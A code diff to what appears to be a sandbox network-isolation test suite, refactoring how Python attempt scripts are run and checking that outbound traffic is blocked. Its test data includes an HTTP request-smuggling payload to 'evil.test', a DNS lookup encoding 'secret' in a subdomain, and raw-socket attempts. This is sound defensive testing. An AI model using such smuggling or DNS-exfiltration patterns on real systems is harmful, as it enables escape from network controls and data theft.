@@ -102,15 +102,15 @@ LAST = b"0\\r\\n\\r\\n"
 SMUGGLED = get("http://evil.test/smuggled", host="evil.test")
 `;
 
+const LOAD_TRIES = 'exec(open("/tmp/tries.py").read())';
+
 /** The response to invalid HTTP: none, or a refusal. */
 const NOT_HTTP = /^b''|400|403/;
 /** The end of a handshake that names no host of the list. */
 const TLS_ALERT = /\\x15\\x03\\x03/;
 
 async function tried(expression: string): Promise<string> {
-  const { stdout, stderr } = await sandbox.run(
-    `python3 - <<'END'\nexec(open("/tmp/tries.py").read())\nprint(${expression})\nEND`,
-  );
+  const { stdout, stderr } = await sandbox.python([LOAD_TRIES, `print(${expression})`]);
   expect(stderr).toBe("");
   return stdout;
 }
@@ -286,9 +286,7 @@ let outcomes: Map<string, Outcome> | undefined;
 async function attempted(): Promise<Map<string, Outcome>> {
   const between = (index: number) => `ask(get("http://good.test/attempt-${index}"))`;
   const script = ATTEMPTS.map(([, expression], index) => `${between(index)}\nprint(${expression})`);
-  const { stdout, stderr } = await sandbox.run(
-    `python3 - <<'END'\nexec(open("/tmp/tries.py").read())\n${script.join("\n")}\n${between(ATTEMPTS.length)}\nEND`,
-  );
+  const { stdout, stderr } = await sandbox.python([LOAD_TRIES, ...script, between(ATTEMPTS.length)]);
   expect(stderr).toBe("");
   const lines = stdout.split("\n");
   const made = ATTEMPTS.map(([what], index): [string, Outcome] => {
@@ -359,7 +357,7 @@ for family, to in ((socket.AF_INET, ("1.1.1.1", 443)), (socket.AF_INET6, ("2606:
     attempt(lambda: socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x" * 8, (to[0], 0)))
 attempt(lambda: socket.getaddrinfo("c2VjcmV0.example.com", 443))
 attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).bind(("eth0", 0)))`;
-    const { stdout, stderr } = await sandbox.run(`python3 - <<'END'${script}\nEND`);
+    const { stdout, stderr } = await sandbox.python(script);
     expect(stdout).toBe("");
     expect(stderr.match(/no/g)).toHaveLength(8);
   });
